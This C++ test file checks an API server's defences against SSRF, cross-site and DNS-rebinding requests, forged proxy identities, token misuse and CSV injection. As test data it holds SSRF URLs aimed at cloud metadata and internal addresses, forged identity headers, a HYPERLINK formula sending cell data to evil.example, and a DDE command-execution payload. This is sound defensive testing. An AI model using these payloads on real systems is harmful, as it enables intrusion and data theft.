// Security (issue 15): LM endpoints and keys are the operator's (no SSRF, no secret exfiltration),
// cross-site and DNS-rebinding requests are refused, a proxy identity carries only its mapped
// role, one NUL policy on every backend, token scheme/expiry/revocation, strict request bodies.
#include <gtest/gtest.h>
#include <sys/stat.h>

#include <chrono>
#include <cstdlib>
#include <mutex>
#include <thread>

#include "common/time.h"
#include "testing/lm_catcher.h"
#include "testing/seed_fixture.h"

namespace exemplar::testing {
namespace {

const char* kDefectTemplate = "7d3e9a52-1c4b-4f8e-8a6d-2b5c9e0f1a01";
const char* kProviderSecret = "sk-provider-secret-1f2e3d";
const char* kOtherSecret = "sk-other-server-secret-9a8b";

Json LabeledRun(const std::string& tid, Json lm) {
  return {{"template_id", tid}, {"optimizer_type", "LabeledFewShot"}, {"lm", std::move(lm)},
          {"budget", {{"max_trials", 1}}}};
}

bool HasLoc(const Json& body, const std::vector<std::string>& loc) {
  if (!body.contains("detail") || !body["detail"].is_array()) return false;
  for (const auto& d : body["detail"]) {
    if (d["loc"] == Json(loc)) return true;
  }
  return false;
}

std::string Detail(const HttpResult& r) { return r.body.contains("detail") ? r.body["detail"].dump() : r.raw; }

// Waits (bounded) until the run has finished; returns its final JSON.
Json WaitFinished(TestServer& server, const std::string& run_id) {
  Json run;
  for (int i = 0; i < 1200; ++i) {
    run = server.Get("/api/v1/dspy-runs/" + run_id).body;
    const std::string st = run.value("status", "");
    if (st == "completed" || st == "failed" || st == "cancelled") break;
    std::this_thread::sleep_for(std::chrono::milliseconds(50));
  }
  return run;
}

Config WithProvider(const Catcher& catcher) {
  setenv("EXEMPLAR_TEST_PROVIDER_KEY", kProviderSecret, 1);
  setenv("EXEMPLAR_TEST_OTHER_SECRET", kOtherSecret, 1);
  Config c;
  LmProviderConfig p = OneTryProvider(catcher.Url(), "m1");
  p.allowed_models = {"m1", "m2"};
  p.api_key_env = "EXEMPLAR_TEST_PROVIDER_KEY";
  c.lm_providers["local"] = p;
  return c;
}

TEST(SecurityApi, RunRequestsCannotChooseEndpointsOrSecrets) {
  Catcher catcher;
  TestServer server(WithProvider(catcher));
  const std::string tid = "00000000-0000-4000-8000-000000000001";
  auto r = server.Post("/api/v1/dspy-runs", LabeledRun(tid, {{"provider", "openai"}, {"base_url", catcher.Url()},
                                                             {"model", "x"}, {"api_key_env", "EXEMPLAR_TEST_OTHER_SECRET"}}));
  EXPECT_EQ(r.status, 422) << r.raw;
  EXPECT_TRUE(HasLoc(r.body, {"body", "lm", "base_url"})) << Detail(r);
  EXPECT_TRUE(HasLoc(r.body, {"body", "lm", "api_key_env"})) << Detail(r);
  // The SSRF shape from the report: a base URL with a query string aimed at an internal path.
  r = server.Post("/api/v1/dspy-runs",
                  LabeledRun(tid, {{"base_url", catcher.Url() + "/internal/admin/delete?confirm=yes&x="}, {"model", "x"}}));
  EXPECT_EQ(r.status, 422);
  r = server.Post("/api/v1/dspy-runs", LabeledRun(tid, {{"provider", "local"}, {"api_key", "mine"}}));
  EXPECT_EQ(r.status, 422);
  // Unknown providers and models a provider does not allow.
  r = server.Post("/api/v1/dspy-runs", LabeledRun(tid, {{"provider", "nope"}}));
  EXPECT_EQ(r.status, 422);
  EXPECT_TRUE(HasLoc(r.body, {"body", "lm", "provider"})) << Detail(r);
  r = server.Post("/api/v1/dspy-runs", LabeledRun(tid, {{"provider", "local"}, {"model", "gpt-secret"}}));
  EXPECT_EQ(r.status, 422);
  EXPECT_TRUE(HasLoc(r.body, {"body", "lm", "model"})) << Detail(r);
  EXPECT_TRUE(catcher.All().empty()) << "a refused request reached the endpoint";
}

TEST(SecurityApi, ProvidersAreListedWithoutUrlsOrKeys) {
  Catcher catcher;
  TestServer server(WithProvider(catcher));
  auto r = server.Get("/api/v1/lm-providers");
  ASSERT_EQ(r.status, 200);
  std::vector<std::string> names;
  for (const auto& p : r.body["providers"]) names.push_back(p["name"]);
  EXPECT_EQ(names, (std::vector<std::string>{"offline", "local"}));
  EXPECT_EQ(r.body["providers"][1]["models"], Json({"m1", "m2"}));
  EXPECT_EQ(r.raw.find("127.0.0.1"), std::string::npos);
  EXPECT_EQ(r.raw.find("sk-"), std::string::npos);
  EXPECT_EQ(r.raw.find("EXEMPLAR_TEST"), std::string::npos);
  EXPECT_EQ(r.body["caller_endpoints_allowed"], false);
}

TEST(SecurityApi, ConfiguredProviderReceivesItsKey) {
  Catcher catcher;
  TestServer server(WithProvider(catcher));
  auto ids = SeedThroughApi(server, EXEMPLAR_SEED_DIR);
  auto r = server.Post("/api/v1/dspy-runs", LabeledRun(ids[kDefectTemplate], {{"provider", "local"}, {"model", "m2"}}));
  ASSERT_EQ(r.status, 201) << r.raw;
  auto seen = catcher.WaitFor(1);
  ASSERT_FALSE(seen.empty());
  EXPECT_EQ(seen[0].path, "/v1/chat/completions");
  EXPECT_EQ(seen[0].authorization, std::string("Bearer ") + kProviderSecret);
  EXPECT_NE(seen[0].body.find("\"m2\""), std::string::npos);
  EXPECT_EQ(seen[0].body.find(kOtherSecret), std::string::npos);
}

TEST(SecurityApi, CallerEndpointsCarryOnlyTheCallersOwnKey) {
  Catcher catcher;
  Config c = WithProvider(catcher);
  c.allow_caller_lm_endpoints = true;
  c.lm_allow_private_networks = true;  // the catcher is on loopback
  TestServer server(c);
  auto ids = SeedThroughApi(server, EXEMPLAR_SEED_DIR);
  const std::string tid = ids[kDefectTemplate];
  // api_key_env names a server secret: refused even with the opt-in.
  auto r = server.Post("/api/v1/dspy-runs", LabeledRun(tid, {{"base_url", catcher.Url()}, {"model", "x"},
                                                             {"api_key_env", "EXEMPLAR_TEST_OTHER_SECRET"}}));
  EXPECT_EQ(r.status, 422);
  // Without a key: the endpoint gets no Authorization at all.
  r = server.Post("/api/v1/dspy-runs", LabeledRun(tid, {{"base_url", catcher.Url()}, {"model", "x"}, {"max_retries", 0}}));
  ASSERT_EQ(r.status, 201) << r.raw;
  EXPECT_EQ(WaitFinished(server, r.body["run_id"])["status"], "failed");
  auto seen = catcher.All();
  ASSERT_GE(seen.size(), 1u);
  for (const auto& s : seen) EXPECT_EQ(s.authorization, "");
  const size_t before = seen.size();
  // With the caller's key: exactly that key, and it is never stored or shown.
  r = server.Post("/api/v1/dspy-runs",
                  LabeledRun(tid, {{"base_url", catcher.Url()}, {"model", "x"}, {"max_retries", 0}, {"api_key", "caller-key-77"}}));
  ASSERT_EQ(r.status, 201) << r.raw;
  EXPECT_EQ(r.raw.find("caller-key-77"), std::string::npos);
  WaitFinished(server, r.body["run_id"]);
  seen = catcher.All();
  ASSERT_GT(seen.size(), before);
  for (size_t i = before; i < seen.size(); ++i) EXPECT_EQ(seen[i].authorization, "Bearer caller-key-77");
  auto run = server.Get("/api/v1/dspy-runs/" + r.body["run_id"].get<std::string>());
  EXPECT_EQ(run.raw.find("caller-key-77"), std::string::npos);
  for (const auto& s : catcher.All()) {
    EXPECT_EQ(s.authorization.find(kProviderSecret), std::string::npos);
    EXPECT_EQ(s.body.find(kOtherSecret), std::string::npos);
  }
}

TEST(SecurityApi, CallerEndpointsRefusePrivateAddressesUnlessAllowed) {
  Catcher catcher;
  Config c;
  c.allow_caller_lm_endpoints = true;
  TestServer server(c);
  const std::string tid = "00000000-0000-4000-8000-000000000001";
  for (const std::string& url : {catcher.Url(), std::string("http://169.254.169.254/latest"),
                                std::string("http://10.0.0.8:8080/v1"), std::string("http://[::1]:9/v1"),
                                std::string("http://[::127.0.0.1]:9/v1"), std::string("http://[64:ff9b::7f00:1]:9/v1"),
                                std::string("http://[64:ff9b::a00:8]/v1"), std::string("http://[2002:7f00:1::1]/v1"),
                                std::string("http://[::ffff:192.168.1.1]/v1"), std::string("http://[::ffff:0:7f00:1]:9/v1"),
                                std::string("http://user:pw@example.com/v1")}) {
    auto r = server.Post("/api/v1/dspy-runs", LabeledRun(tid, {{"base_url", url}, {"model", "x"}}));
    EXPECT_EQ(r.status, 422) << url << ": " << r.raw;
    EXPECT_TRUE(HasLoc(r.body, {"body", "lm", "base_url"})) << url << ": " << Detail(r);
  }
  EXPECT_TRUE(catcher.All().empty());
}

// A provider that is down: the caller learns that and why, not where the operator's endpoint is.
TEST(SecurityApi, ProviderFailuresDoNotNameTheEndpoint) {
  const int closed = FreePort();
  Config c;
  c.embedder = "openai";
  c.embed_base_url = "http://127.0.0.1:" + std::to_string(closed) + "/v1";
  c.embed_model = "fake";
  c.embed_dimensions = 8;
  c.embed_retries = 0;
  TestServer server(c);
  for (const auto& [path, body] : std::vector<std::pair<std::string, Json>>{
           {"/api/v1/examples/search", {{"query_text", "hello"}, {"mode", "vector"}}},
           {"/api/v1/examples/retrieve", {{"query", "hello"}}}}) {
    auto r = server.Post(path, body);
    EXPECT_EQ(r.status, 503) << path << ": " << r.raw;
    EXPECT_EQ(r.raw.find("127.0.0.1"), std::string::npos) << r.raw;
    EXPECT_EQ(r.raw.find(std::to_string(closed)), std::string::npos) << r.raw;
    EXPECT_NE(r.raw.find("connect"), std::string::npos) << r.raw;  // still says what went wrong
  }
}

TEST(SecurityApi, CrossSiteAndRebindingRequestsAreRefused) {
  TestServer server;
  httplib::Client cli("127.0.0.1", server.port());
  const std::string self = "127.0.0.1:" + std::to_string(server.port());
  const std::string body = MakeExample("cross site").dump();
  // Form posts and bodies without a JSON content type: 415.
  auto r = cli.Post("/api/v1/examples", body, "application/x-www-form-urlencoded");
  ASSERT_TRUE(r);
  EXPECT_EQ(r->status, 415);
  r = cli.Post("/api/v1/examples", body, "text/plain");
  EXPECT_EQ(r->status, 415);
  r = cli.Post("/api/v1/examples", body, "");
  EXPECT_EQ(r->status, 415);
  r = cli.Post("/api/v1/examples", body, "application/jsonx");
  EXPECT_EQ(r->status, 415);
  // A foreign Origin: 403, also on bodiless state changes.
  r = cli.Post("/api/v1/examples", {{"Origin", "http://evil.example"}}, body, "application/json");
  EXPECT_EQ(r->status, 403);
  r = cli.Post("/api/v1/examples/regenerate-embeddings", {{"Origin", "null"}}, "", "");
  EXPECT_EQ(r->status, 403);
  r = cli.Post("/api/v1/examples/regenerate-embeddings", "", "application/x-www-form-urlencoded");  // an empty form
  EXPECT_EQ(r->status, 415);
  // A foreign Host (DNS rebinding): 421, even for reads.
  r = cli.Get("/api/v1/examples", {{"Host", "attacker.example:" + std::to_string(server.port())}});
  EXPECT_EQ(r->status, 421);
  r = cli.Post("/api/v1/examples", {{"Host", "attacker.example"}}, body, "application/json");
  EXPECT_EQ(r->status, 421);
  // The OpenAPI document too (its handler is set by the dispatcher, after the routes' guards).
  r = cli.Get("/api/v1/openapi.json", {{"Host", "attacker.example"}});
  EXPECT_EQ(r->status, 421);
  // The same origin, localhost and a bodiless POST without Content-Type keep working.
  r = cli.Post("/api/v1/examples", {{"Origin", "http://" + self}}, body, "application/json; charset=utf-8");
  EXPECT_EQ(r->status, 201) << r->body;
  r = cli.Get("/api/v1/examples", {{"Host", "localhost:" + std::to_string(server.port())}});
  EXPECT_EQ(r->status, 200);
  r = cli.Post("/api/v1/dspy-runs/00000000-0000-4000-8000-000000000009/cancel", "", "");
  EXPECT_EQ(r->status, 404);  // reached the handler: not a 415
  EXPECT_EQ(server.Get("/api/v1/examples").body["total"], 1);  // only the same-origin create
  // OPTIONS without CORS configured is a plain 204 with Allow; a wrong method is a 405 saying so.
  r = cli.Options("/api/v1/examples");
  ASSERT_TRUE(r);
  EXPECT_EQ(r->status, 204);
  EXPECT_FALSE(r->get_header_value("Allow").empty());
  auto wrong = server.Delete("/api/v1/examples");
  EXPECT_EQ(wrong.status, 405);
  EXPECT_EQ(wrong.body["code"], "method_not_allowed");
}

TEST(SecurityApi, AllowedHostsAndCorsOriginsAreTheOperatorsList) {
  Config c;
  c.allowed_hosts = "app.example, .corp.example";
  c.cors_origins = "https://ui.example";
  TestServer server(c);
  httplib::Client cli("127.0.0.1", server.port());
  EXPECT_EQ(cli.Get("/api/v1/examples", {{"Host", "app.example"}})->status, 200);
  EXPECT_EQ(cli.Get("/api/v1/examples", {{"Host", "x.corp.example:443"}})->status, 200);
  EXPECT_EQ(cli.Get("/api/v1/examples", {{"Host", "corp.example.evil"}})->status, 421);
  auto r = cli.Post("/api/v1/examples", {{"Origin", "https://ui.example"}}, MakeExample("cors").dump(), "application/json");
  EXPECT_EQ(r->status, 201);
  r = cli.Post("/api/v1/examples", {{"Origin", "https://other.example"}}, MakeExample("cors").dump(), "application/json");
  EXPECT_EQ(r->status, 403);
}

TEST(SecurityApi, ProxyIdentityCarriesOnlyItsMappedRole) {
  Config c;
  c.host = "0.0.0.0";  // auth required
  c.trusted_proxy = true;
  c.proxy_roles["writer@example.com"] = "write";
  c.proxy_roles["*@admins.example"] = "admin";
  c.proxy_roles["banned@example.com"] = "none";
  TestServer server(c);
  auto as = [&](const std::string& method, const std::string& path, const Json& body, const std::string& who) {
    return server.Send(method, path, body, {{"X-Forwarded-Email", who}});
  };
  Json ex = MakeExample("proxied");
  EXPECT_EQ(as("POST", "/api/v1/examples", ex, "nobody@example.com").status, 403);  // default role: read
  EXPECT_EQ(as("GET", "/api/v1/examples", nullptr, "nobody@example.com").status, 200);
  EXPECT_EQ(as("GET", "/api/v1/examples", nullptr, "banned@example.com").status, 403);
  auto created = as("POST", "/api/v1/examples", ex, "Writer@Example.com");
  ASSERT_EQ(created.status, 201) << created.raw;
  EXPECT_EQ(created.body["created_by"], "Writer@Example.com");
  EXPECT_EQ(as("POST", "/api/v1/examples/regenerate-embeddings", Json::object(), "writer@example.com").status, 403);
  EXPECT_EQ(as("POST", "/api/v1/examples/regenerate-embeddings", Json::object(), "boss@admins.example").status, 200);
  EXPECT_EQ(server.Post("/api/v1/examples", ex).status, 401);  // no identity, no token
  // Only one address maps: not a bare domain, a wildcard, a list or two '@' (an outside review
  // got admin-domain roles from "@admins.example" and "*@admins.example").
  for (const char* forged : {"@admins.example", "*@admins.example", "x@y,boss@admins.example", "evil@boss@admins.example",
                             "Boss <boss@admins.example>", "banned@example.com.", "banned@.example.com",
                             "banned@example..com"}) {
    auto r = as("POST", "/api/v1/examples/regenerate-embeddings", Json::object(), forged);
    EXPECT_EQ(r.status, 401) << forged << ": " << r.raw;
  }
}

TEST(SecurityApi, ForwardedHeadersFromOtherAddressesAreIgnored) {
  Config c;
  c.host = "0.0.0.0";
  c.trusted_proxy = true;
  c.trusted_proxy_addresses = "10.9.9.9, 192.168.0.0/16";
  c.proxy_roles["writer@example.com"] = "write";
  TestServer server(c);
  auto r = server.Send("POST", "/api/v1/examples", MakeExample("spoofed"), {{"X-Forwarded-Email", "writer@example.com"}});
  EXPECT_EQ(r.status, 401);
  std::string token = server.runtime().auth().CreateToken(service::Role::kWrite, "robot")->second;
  r = server.Send("POST", "/api/v1/examples", MakeExample("token"),
                  {{"Authorization", "Bearer " + token}, {"X-Forwarded-Email", "writer@example.com"}});
  ASSERT_EQ(r.status, 201);
  EXPECT_EQ(r.body["created_by"], "robot");  // the spoofed email does not rename the caller
}

TEST(SecurityApi, TokenSchemeIsCaseInsensitiveTokensExpireAndRecordUse) {
  Config c;
  c.host = "0.0.0.0";
  TestServer server(c);
  auto& auth = server.runtime().auth();
  auto [id, token] = *auth.CreateToken(service::Role::kRead, "reader");
  for (const std::string scheme : {"Bearer", "bearer", "BEARER"}) {
    EXPECT_EQ(server.Send("GET", "/api/v1/examples", nullptr, {{"Authorization", scheme + " " + token}}).status, 200) << scheme;
  }
  auto listed = *auth.ListTokens();
  ASSERT_EQ(listed.size(), 1u);
  ASSERT_TRUE(listed[0].last_used_at.has_value());
  EXPECT_LE(*listed[0].last_used_at, NowMillis());
  std::string short_lived = auth.CreateToken(service::Role::kRead, "brief", 50)->second;
  EXPECT_EQ(server.Send("GET", "/api/v1/examples", nullptr, {{"Authorization", "Bearer " + short_lived}}).status, 200);
  std::this_thread::sleep_for(std::chrono::milliseconds(120));  // the expiry itself is the condition
  auto expired = server.Send("GET", "/api/v1/examples", nullptr, {{"Authorization", "Bearer " + short_lived}});
  EXPECT_EQ(expired.status, 401);
  EXPECT_NE(expired.raw.find("expired"), std::string::npos);
}

// Revocation on one server takes effect at once on another over the same database (replicas on
// PostgreSQL in the pg: variant; two processes' worth of stores on one SQLite file otherwise).
TEST(SecurityApi, RevocationTakesEffectOnTheNextRequestEverywhere) {
  Config c;
  c.host = "0.0.0.0";
  TestServer a(c);
  Config cb = a.config();
  if (cb.db.empty()) cb.db = (a.data_dir() / "exemplar.db").string();
  TestServer b(cb);
  auto [id, token] = *a.runtime().auth().CreateToken(service::Role::kRead, "shared");
  httplib::Headers h = {{"Authorization", "Bearer " + token}};
  EXPECT_EQ(b.Send("GET", "/api/v1/examples", nullptr, h).status, 200);
  ASSERT_TRUE(a.runtime().auth().RevokeToken(id).ok());
  EXPECT_EQ(b.Send("GET", "/api/v1/examples", nullptr, h).status, 401);
  EXPECT_EQ(a.Send("GET", "/api/v1/examples", nullptr, h).status, 401);
}

TEST(SecurityApi, NulIsRefusedWithTheSameErrorOnEveryBackend) {
  TestServer server;
  Json ex = MakeExample("clean");
  ex["domain"] = std::string("dom\0ain", 7);
  auto r = server.Post("/api/v1/examples", ex);
  EXPECT_EQ(r.status, 422) << r.raw;
  EXPECT_TRUE(HasLoc(r.body, {"body", "domain"})) << Detail(r);
  Json nested = MakeExample("clean");
  nested["input"]["text"] = std::string("a\0b", 3);
  r = server.Post("/api/v1/examples", nested);
  EXPECT_EQ(r.status, 422);
  EXPECT_TRUE(HasLoc(r.body, {"body", "input", "text"})) << Detail(r);
  r = server.Post("/api/v1/examples/batch", {{"examples", Json::array({MakeExample("ok"), nested})}});
  EXPECT_EQ(r.status, 422);
  r = server.PostRaw("/api/v1/examples/import?format=jsonl", nested.dump() + "\n", "application/x-ndjson");
  EXPECT_NE(r.raw.find("NUL"), std::string::npos) << r.raw;  // reported per line, nothing created
  r = server.Post("/api/v1/templates", {{"name", std::string("t\0", 2)}});
  EXPECT_EQ(r.status, 422);
  EXPECT_EQ(server.Get("/api/v1/examples").body["total"], 0);  // nothing half-stored
  EXPECT_EQ(r.raw.find("postgres"), std::string::npos);
}

TEST(SecurityApi, UnknownKeysAreRefusedNamingTheClosestKnownKey) {
  TestServer server;
  auto ids = SeedThroughApi(server, EXEMPLAR_SEED_DIR);
  auto r = server.Post("/api/v1/templates/" + ids[kDefectTemplate] + "/export-dspy",
                       {{"format", "python_module"}, {"module_type", "ChainOfThought"}});
  EXPECT_EQ(r.status, 422);
  EXPECT_TRUE(HasLoc(r.body, {"body", "module_type"}));
  EXPECT_NE(r.raw.find("did you mean `module`"), std::string::npos) << r.raw;
  Json ex = MakeExample("typo");
  ex["domian"] = "x";
  r = server.Post("/api/v1/examples", ex);
  EXPECT_EQ(r.status, 422);
  EXPECT_NE(r.raw.find("`domain`"), std::string::npos) << r.raw;
  r = server.Post("/api/v1/examples/search", {{"query_text", "x"}, {"kk", 3}});
  EXPECT_EQ(r.status, 422);
  EXPECT_TRUE(HasLoc(r.body, {"body", "kk"}));
  // Run launch checks optimizer and metric parameters now, not when the run starts.
  r = server.Post("/api/v1/dspy-runs", {{"template_id", ids[kDefectTemplate]}, {"optimizer_type", "BootstrapFewShot"},
                                        {"optimizer_params", {{"max_bootstraped_demos", 3}}}});
  EXPECT_EQ(r.status, 422) << r.raw;
  r = server.Post("/api/v1/dspy-runs", {{"template_id", ids[kDefectTemplate]}, {"optimizer_type", "LabeledFewShot"},
                                        {"optimizer_params", {{"k", -1}}}});
  EXPECT_EQ(r.status, 422) << r.raw;
  r = server.Post("/api/v1/dspy-runs", {{"template_id", ids[kDefectTemplate]}, {"budget", {{"max_trails", 3}}}});
  EXPECT_EQ(r.status, 422);
  EXPECT_TRUE(HasLoc(r.body, {"body", "budget", "max_trails"})) << Detail(r);
  EXPECT_EQ(server.Get("/api/v1/dspy-runs").body["total"], 0);
  // A body copied from a GET (server-assigned fields included) is still accepted.
  Json got = server.Get("/api/v1/examples?page_size=1").body["examples"][0];
  std::string id = got["example_id"];
  got["domain"] = "edited";
  EXPECT_EQ(server.Put("/api/v1/examples/" + id, got).status, 200);
}

// CSV injection: GET /examples/export?format=csv writes a text cell a spreadsheet would run as a
// formula after an apostrophe (and one starting with an apostrophe after another), and
// POST /examples/import takes exactly one off: another store gets the very same strings.
TEST(SecurityApi, CsvExportWritesFormulasAsTextAndImportGivesThemBack) {
  TestServer server;
  const std::vector<std::string> texts = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+cmd|' /C calc'!A0",
                                          "@SUM(1,1)", "-5", "'", "'=", "'=1+1", "\t=1", "plain"};
  for (size_t i = 0; i < texts.size(); ++i) {
    Json e = MakeExample("formula " + std::to_string(i), texts[i]);  // the domain
    e["explanation"] = texts[i];
    e["client_id"] = "c" + std::to_string(i);
    ASSERT_EQ(server.Post("/api/v1/examples", e).status, 201) << texts[i];
  }
  auto csv = server.Get("/api/v1/examples/export?format=csv");
  ASSERT_EQ(csv.status, 200);
  for (const char* cell : {"\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\"", ",'+cmd|' /C calc'!A0,",
                           "\"'@SUM(1,1)\"", ",'-5,", ",'',", ",''=,", ",''=1+1,", ",'\t=1,", ",plain,"}) {
    EXPECT_NE(csv.raw.find(cell), std::string::npos) << cell << " not in\n" << csv.raw;
  }
  for (const char* raw : {",=", ",+", ",@", ",-", ",\t"}) EXPECT_EQ(csv.raw.find(raw), std::string::npos) << raw;

  TestServer other;
  auto imported = other.PostRaw("/api/v1/examples/import", csv.raw, "text/csv");
  ASSERT_EQ(imported.status, 201) << imported.raw;
  auto back = other.Get("/api/v1/examples?page_size=100").body["examples"];
  ASSERT_EQ(back.size(), texts.size());
  for (const auto& e : back) {
    const size_t i = std::stoul(e["client_id"].get<std::string>().substr(1));
    EXPECT_EQ(e["explanation"], texts[i]);
    EXPECT_EQ(e["domain"], texts[i]);
    EXPECT_EQ(e["input"], Json({{"text", "formula " + std::to_string(i)}}));
  }
}

}  // namespace
}  // namespace exemplar::testing
